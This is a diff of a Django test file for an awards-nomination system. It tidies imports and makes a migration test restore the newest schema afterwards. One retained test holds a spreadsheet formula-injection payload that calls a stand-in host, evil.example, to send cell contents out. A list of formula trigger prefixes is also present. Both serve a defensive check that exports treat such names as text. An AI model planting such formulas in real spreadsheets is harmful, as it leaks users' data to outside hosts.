@@ -7,11 +7,14 @@ import pytest
 from django.core.exceptions import PermissionDenied, ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
-from django.db import IntegrityError, transaction
+from django.db import IntegrityError, connection, transaction
+from django.db.migrations.executor import MigrationExecutor
 from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
+from openpyxl import load_workbook
 
+from awards.export import nominations_workbook
 from awards.models import Assessment, Nomination, NominationState
 from awards.selectors import applicable_criteria, quota_ledger
 from awards.services.nominations import assessment_save, nomination_create, nomination_delete
@@ -51,8 +54,6 @@ def collective(setup, *, nominee="commune_a", officer="officer_a", quota="quota"
 # 3. Excel formula injection ----------------------------------------------------------
 
 def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, setup):
-    from openpyxl import load_workbook
-
     name = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
     position = "@SUM(1+1)"
     nomination = nomination_create(
@@ -71,10 +72,6 @@ def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, setup):
 
 @pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@A1", "\t=1+1", "\r=1+1"])
 def test_every_formula_trigger_is_written_as_text(value):
-    from openpyxl import load_workbook
-
-    from awards.export import nominations_workbook
-
     plan = Plan(number=1, symbol="KH-UBND", issuer=Unit(name="Ủy ban nhân dân tỉnh"))
     row = Nomination(kind="individual", person_name=value, person_position="", round=1,
                      nominating_unit=Unit(name="Ủy ban nhân dân huyện"), quota=Quota(printed_name="Bằng khen"))
@@ -415,9 +412,6 @@ def test_the_report_service_refuses_a_year_out_of_range(tree, people, report_pla
 
 @pytest.mark.django_db(transaction=True)
 def test_upgrading_closes_the_duplicate_dossiers_double_clicks_made(tree, people):
-    from django.db import connection
-    from django.db.migrations.executor import MigrationExecutor
-
     setup = issued_plan_with_review_office(tree, people)
     first = collective(setup)
     before, latest = [("awards", "0003_nominations")], [("awards", "0004_one_live_nomination_per_collective")]
@@ -429,10 +423,14 @@ def test_upgrading_closes_the_duplicate_dossiers_double_clicks_made(tree, people
     twice = old_nomination.objects.create(**{**copy, "state": NominationState.DRAFT, "round": 0})
     executor = MigrationExecutor(connection)
     executor.loader.build_graph()
-    executor.migrate(latest)
-
-    first.refresh_from_db()
-    closed = Nomination.objects.get(pk=twice.pk)
-    assert (first.state, closed.state) == (NominationState.SUBMITTED, NominationState.REJECTED)
+    try:
+        executor.migrate(latest)
+        first.refresh_from_db()
+        closed = Nomination.objects.get(pk=twice.pk)
+        assert (first.state, closed.state) == (NominationState.SUBMITTED, NominationState.REJECTED)
+    finally:
+        # Forward to the newest schema again: later tests share this database.
+        executor = MigrationExecutor(connection)
+        executor.migrate(executor.loader.graph.leaf_nodes())
     assert closed.decision_reason == (f"Hồ sơ trùng: tập thể đã có hồ sơ số {first.pk} cho cùng hình thức khen "
                                       "thưởng theo kế hoạch này (đóng khi nâng cấp).")
